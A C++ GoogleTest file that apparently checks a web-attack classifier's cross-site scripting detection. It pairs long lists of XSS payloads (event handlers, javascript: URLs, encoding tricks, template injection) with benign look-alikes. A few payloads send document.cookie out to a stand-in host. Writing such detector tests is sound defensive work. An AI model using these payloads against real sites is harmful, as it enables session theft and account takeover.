// Cross-site scripting: attacks by the context that a programmer would have put the value in, and
// what looks alike.
#include <gtest/gtest.h>

#include <string>
#include <string_view>

#include "attack/classify.h"
#include "attack/explain.h"
#include "judging/families.h"

namespace quell::attack {
namespace {

using namespace std::string_view_literals;

std::string percent_encoded(std::string_view bytes) {
  static constexpr std::string_view kHex = "0123456789ABCDEF";
  std::string out;
  for (const char c : bytes) {
    if ((c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9') || c == '.') {
      out += c;  // as ordinary clients do
      continue;
    }
    const auto byte = static_cast<unsigned char>(c);
    out += '%';
    out += kHex[byte >> 4U];
    out += kHex[byte & 15U];
  }
  return out;
}

std::string class_of(std::string_view value) {
  const Classification verdict = classify(Where::kQuery, percent_encoded(value));
  return std::string(name_of(verdict.is_attack() ? verdict.best().which : Class::kBenign));
}

class IsScript : public testing::TestWithParam<std::string_view> {};
TEST_P(IsScript, InAParameter) {
  EXPECT_EQ(class_of(GetParam()), "xss") << GetParam();
  EXPECT_TRUE(classify(Where::kHeader, GetParam()).is_attack()) << GetParam();
}
INSTANTIATE_TEST_SUITE_P(
    Elements, IsScript,
    testing::Values("<script>alert(1)</script>", "<script src=//a.example/x.js>",
                    "<ScRiPt\t>x=prompt;x(1)</sCrIpT\n>", "<script>eval(name)",
                    "<script x>{onerror=alert}throw 1</script 1=2", "</script><script>f()</script>",
                    "<iframe src=//a.example/>", "<object data='data:text/html,<b>'>",
                    "<embed code=http://a.example/x.swf>", "<base href=https://a.example/>",
                    "<meta http-equiv=refresh content='0;url=//a.example'>",
                    "<link rel=stylesheet href=//a.example/x.css>",
                    "<form action=https://a.example/><input name=password>",
                    "<iframe srcdoc='&lt;b&gt;'>", "<style>@import '//a.example/x.css'</style>",
                    "<svg><set attributeName=href to=x>", "<x:script xmlns:x=y>alert(1)</x:script>",
                    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
                    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"));
INSTANTIATE_TEST_SUITE_P(Handlers, IsScript,
                         testing::Values("<svg/onload=alert(1)>", "<img src=x onerror=alert(1)//",
                                         "<x onclick=alert`1`", "<x/oninventedtomorrow=f()>",
                                         "<img/src/onerror\n=\n'alert(1)'>",
                                         "<b x=\"1\"onmouseover=\"alert(1)\">",
                                         "<b \x0bonclick=alert(1)>", "<b onclick=\\\"alert(1)\\\">",
                                         "</b onclick=alert(1)>", "<img src=`x`onerror=alert(1)>",
                                         "<iframe id=x/////onload=alert(1)>"));
INSTANTIATE_TEST_SUITE_P(
    OldReaders, IsScript,
    testing::Values("<img src=x onerror/=alert(1)>", "<body onload!#$%&*~+=alert(1)>",
                    "<scrscriptipt>alert(1)</scrscriptipt>", "<img src=&{alert(1)};>",
                    "&{document.cookie=1};", "<xml id=i src=//a.example/x.xml></xml>",
                    "<import namespace=t implementation=#default#time2>",
                    "<xml id=i><img src='javas<!-- -->cript:alert(1)'></xml>",
                    "<x><![CDATA[<img src='javas]]><![CDATA[cript:alert(1)'>]]>",
                    "<handler ev:event=load>alert(1)</handler>",
                    "<x ev:event=load ev:handler='a.svg#x'/>"));
INSTANTIATE_TEST_SUITE_P(
    WithoutScripts, IsScript,
    testing::Values("<input type=submit formaction=//a.example/>", "<base target='",
                    "<img src='//a.example/?x=", "<a id=c><a id=c name=url href=//a.example>",
                    "<form><input name=parentNode>", "<a href=http://3405803783/>x</a>",
                    "<a href=http://0313.00.0161.07/>x</a>",
                    "<style>input[value^=a]{background:url(//a.example/a)}</style>",
                    "<p style=\"font-family:'\\3cimg\\20src\\3dx\\20onerror\\3d alert(1)'\">",
                    "<meta http-equiv=content-security-policy content=x>",
                    "<svg><use href='data:image/svg+xml,<svg id=x/>#x'>"));
INSTANTIATE_TEST_SUITE_P(
    Frameworks, IsScript,
    testing::Values("<p @click=\"alert(1)\">", "<p :x=_c.constructor`alert(1)`()>",
                    "<input ng-focus=\"$event.path|orderBy:'[].constructor.from([1],alert)'\">",
                    "{{constructor.constructor('alert(1)')()}}",
                    "{{this.constructor.constructor('alert(1)')()}}"));
INSTANTIATE_TEST_SUITE_P(Probes, IsScript, testing::Values("'';!--\"<xss>=&{()}", "'\"()&%<abcd>"));
INSTANTIATE_TEST_SUITE_P(InsideAttributes, IsScript,
                         testing::Values("\" onfocus=alert(1) autofocus x=\"",
                                         "'onmouseover='alert(1)", "\"><svg onload=alert(1)>",
                                         "x\"/onclick=\"location='//a.example'",
                                         "x onerror=alert(1)", "1 autofocus onfocus=prompt(1)",
                                         "\" style=\"x:expression(alert(1))",
                                         "\" href=javascript:alert(1) x=\"", "` onclick=alert(1)"));
INSTANTIATE_TEST_SUITE_P(
    InsideScripts, IsScript,
    testing::Values("';alert(1)//", "'-alert(1)-'", "\"+confirm(document.domain)+\"",
                    "\\';alert(1)//", "');alert(1);//", "'}];alert(1);[{'", "`-alert(1)-`",
                    "${alert(1)}", "';location='//a.example/?'+document.cookie;'", "',alert(1),'",
                    "'?alert(1):'", "';top['al'+'ert'](1)//", "*/alert(1)/*", ";alert(1)//",
                    "};alert(1);{", "/;alert(1)//", "onerror=alert;throw 1",
                    "valueOf=alert;window+''", "'-eval('alert(1)')-'",
                    "s='java'+'scri'+'pt:al'+'ert(1)';URL=s", "1[a+b](c+d)",
                    "with(document)alert(cookie)", "document.a._=alert",
                    "navigator.sendBeacon('//a.example',document.cookie)"));
INSTANTIATE_TEST_SUITE_P(
    Addresses, IsScript,
    testing::Values("javascript:alert(1)", "JaVa\tScRiPt\n:alert(1)", "\x01javascript:alert(1)",
                    "javascript://x\nalert(1)", "<a href=javascript:f()>",
                    "<a href='java&Tab;script&colon;alert(1)'>", "vbscript:msgbox(1)",
                    "data:text/html,<script>alert(1)</script>",
                    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
                    "<a href=&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)>"));
INSTANTIATE_TEST_SUITE_P(Styles, IsScript,
                         testing::Values("<b style='width:expression(alert(1))'>",
                                         "<b style='width:exp/**/ression(alert(1))'>",
                                         "<b style='w:\\65xpression(alert(1))'>",
                                         "<b style=behavior:url(x.htc)>",
                                         "<b style=\"-moz-binding:url(//a.example/x#y)\">"));
INSTANTIATE_TEST_SUITE_P(Disguises, IsScript,
                         testing::Values("<scr\0ipt>alert(1)</scr\0ipt>"sv,
                                         "\xef\xbc\x9cscript\xef\xbc\x9e"
                                         "alert(1)",
                                         "\xbcscript\xbe"
                                         "alert(1)\xbc/script\xbe",
                                         "&lt;svg/onload&equals;alert(1)&gt;",
                                         "\\u003cscript\\u003ealert(1)"));
TEST(Script, InUtf7) {
  EXPECT_EQ(class_of("+ADw-script+AD4-alert(1)+ADw-/script+AD4-"), "xss");
  EXPECT_EQ(class_of("+ADw-p+AD4-(x)+ADw-/p+AD4-"), "xss");
}
TEST(Script, InLettersThatFold) {
  EXPECT_EQ(class_of("<\xc5\xbf"
                     "cript>alert(1)"),
            "xss");
  EXPECT_EQ(class_of("<\xc4\xb1mg src=x onerror=alert(1)>"), "xss");
}

class IsNoScript : public testing::TestWithParam<const char*> {};
TEST_P(IsNoScript, InAParameter) {
  const Classification verdict = classify(Where::kQuery, percent_encoded(GetParam()));
  for (const Finding& finding : verdict.findings) {
    EXPECT_NE(finding.which, Class::kXss) << GetParam() << ": " << finding.reasons[0].text;
  }
}
INSTANTIATE_TEST_SUITE_P(
    Texts, IsNoScript,
    testing::Values("a < b and c > d", "I <3 you", "x<y", "Ana <ana@shop.example>", "price <100",
                    "List<String>", "std::vector<std::string>", "12\" x 10\" on=sale",
                    "\"quoted\" text=1", "\"only\" one=1", "the \"onclick\" attribute",
                    "\"onclick\" = what?", "high alert!", "confirm(ed) bookings",
                    "O'Neil's alert (new)", "learn javascript: a guide", "on sale=yes",
                    "please confirm (yes/no)", "expression(s) of love", "1 (one) of 2",
                    "write </script> at the end", "postscript: (none)", "6'\"<x>", "AT&T {us}",
                    "\"e\"+\"mail\"", "[\"e\",\"val\"]", "with (open(f) as g)",
                    "the ``name`` argument of ``find``", "f(a=None, body=None)",
                    "const Function &f(x)", "use ``a`` (see ``b``)", "', dest='z', action='store'",
                    "/a;b(c)/"));
INSTANTIATE_TEST_SUITE_P(
    Markup, IsNoScript,
    testing::Values("<b>bold</b>", "<p class=\"x\">text</p>",
                    "<a href=\"https://a.example/\">x</a>", "<img src=\"/a.png\" alt=\"x\">",
                    "<br/>", "<span style=\"color:red\">x</span>",
                    "<item name=\"online\" once=\"1\" online=\"true\"/>",
                    "<?xml version=\"1.0\"?><order on=\"1\"><id>7</id></order>",
                    "<soap:Body><GetPrice onward=\"x\">1</GetPrice></soap:Body>",
                    "<!-- wp:paragraph --><p>x</p>", "<svg width=\"1\"><path d=\"M0 0\"/></svg>",
                    "<form action=\"/search\"><input name=q></form>",
                    "<link rel=\"alternate\" href=\"https://a.example/feed\"/>",
                    "<a class=\"x\" onclick=\"openMenu(this)\">x</a>",
                    "<a href=\"#\" onclick=\"return false;\">x</a>",
                    "<xml><a><![CDATA[x]]></a></xml>", "<import id=\"1\" src=\"orders.csv\"/>",
                    "<?xml:namespace prefix = o ns = \"urn:schemas-microsoft-com:office:office\"/>",
                    "<job event=\"done\" handler=\"notify\"/>", "<img src=\"//cdn.example/a.png",
                    "<object data=\"/a.pdf\" type=\"application/pdf\"></object>",
                    "<a href=\"http://192.0.2.1/\">x</a>", "<a id=\"a\" name=\"a\">x</a>",
                    "<p @click=\"open = !open\">x</p>",
                    "<style>a[href^=http]{background:url(//cdn.example/x.png)}</style>"));
INSTANTIATE_TEST_SUITE_P(
    Addresses, IsNoScript,
    testing::Values("javascript:void(0)", "javascript:;", "javascript:", "javascript:void(0);",
                    "javascript:history.back()",
                    "data:image/png;base64,iVBORw0KGgo=", "data:image/svg+xml;base64,PHN2Zy8+",
                    "https://a.example/x?onload=1&y=(2)", "https://a.example/?onload=init"));
INSTANTIATE_TEST_SUITE_P(Code, IsNoScript,
                         testing::Values("foo(bar)", "console.log(\"x\")",
                                         "document.getElementById('x')", "arr.map(x => x * 2)",
                                         "function f(a) { return a; }", "a[0] = b[1]",
                                         "=SUM(A1:A10)", "f(x) = 2x", "'a','b'", "' + name + '",
                                         "\"a\".join(b)", "{{name}}", "${price}", "onload=initMap",
                                         "rgb(1, 2, 3)", "x = y"));

TEST(Script, OfRequestsAndTheirPieces) {
  const auto is_script = [](Where where, std::string_view bytes) {
    const Classification verdict = classify(where, bytes);
    return verdict.is_attack() && verdict.best().which == Class::kXss;
  };
  EXPECT_TRUE(is_script(Where::kTarget, "/search/%3Cscript%3Ealert(1)%3C/script%3E"));
  EXPECT_TRUE(is_script(Where::kTarget, "/u/%22onfocus=%22alert(1)%22autofocus=%22"));
  EXPECT_TRUE(is_script(Where::kTarget, "/s?%3Csvg%20onload=alert(1)%3E=1"));
  EXPECT_TRUE(is_script(Where::kBody, R"({"a":{"b":"<svg onload=alert(1)>"}})"));
  EXPECT_TRUE(is_script(Where::kBody, "x=1&name=%3Cscript%3Ealert(1)%3C%2Fscript%3E"));
  EXPECT_FALSE(is_script(Where::kTarget, "/api.js?onload=ready&render=explicit"));
  EXPECT_FALSE(is_script(Where::kTarget, "/s?u=/x?a+onclick=location=y"));
  EXPECT_FALSE(is_script(Where::kTarget, "/s?q=+ADw-script+AD4-alert"));
  EXPECT_FALSE(is_script(Where::kHeader, "Mozilla/5.0 (javascript:alert(1))"));
}

TEST(Script, SaysWhy) {
  const Explanation explanation = explain(Where::kQuery, "\"><img src=x onerror=alert(1)>");
  ASSERT_TRUE(explanation.verdict.is_attack());
  const Finding& finding = explanation.verdict.best();
  EXPECT_EQ(finding.technique, Technique::kScript);
  ASSERT_GE(finding.reasons.size(), 4U);
  EXPECT_EQ(finding.reasons[0].text, "an event handler: onerror");
}

/// What was read as scripts, in bytes, and what was observed.
struct Work {
  std::size_t bytes = 0;
  std::size_t considered = 0;
};
Work work_on(std::string_view value) {
  Workspace work(Detail::kVerdict);
  work.record.begin();
  judge_scripting({.value = value, .holds = bytes_in(value)}, work);
  return {.bytes = work.js_machine.bytes_read(), .considered = work.record.considered().size()};
}

// Attackers choose the bytes: work must not grow faster than their number.
TEST(Script, HostileShapesTakeLinearWork) {
  const std::string pieces[] = {"<a ",         "<a \"",
                                "<script>",    "<style>",
                                "on=",         "onload=x ",
                                "'",           "\"(",
                                "`${",         "data:,",
                                "\t:",         "{{",
                                "[",           "javascript:",
                                "alert(",      "<!--",
                                "/*",          "'+'",
                                "onload='",    "<?x ",
                                "</script>",   "+ADw",
                                "\xbc/",       "&#",
                                "\\'",         "<a b=c ",
                                "(",           "<svg/onload=",
                                "]['",         "<b on=\"",
                                "'alert(1)'",  "*/",
                                "<a href='",   "=\"onclick=alert(1) ",
                                "&{alert(1)}", "<a @b='(",
                                "'a'+",        "eval('(",
                                "]{url(",      "\\28(",
                                "-->c:",       "<handler ev:event=x>",
                                "<x !=",       "document/**/."};
  for (const std::string& piece : pieces) {
    std::string value;
    while (value.size() < kMaxValueBytes / 2) value += piece;
    const Work half = work_on(value);
    const Work whole = work_on(value + value);
    EXPECT_LE(whole.bytes, 2 * half.bytes + 8 * kMaxScriptBytes) << piece;
    EXPECT_LE(whole.bytes, 20UZ * value.size() + 16 * kMaxScriptBytes) << piece;
    EXPECT_LE(whole.considered, 16U) << piece;
  }
}

TEST(Script, HostileShapesGetAJudgement) {
  for (const std::string_view piece :
       {"<"sv, "<a/"sv, "\0"sv, "<\0a"sv, "='"sv, "\xff"sv, "<a =="sv}) {
    std::string value = "<svg onload=alert(1) ";
    while (value.size() < 4096) value += piece;
    EXPECT_EQ(class_of(value), "xss") << piece;
  }
}

}  // namespace
}  // namespace quell::attack
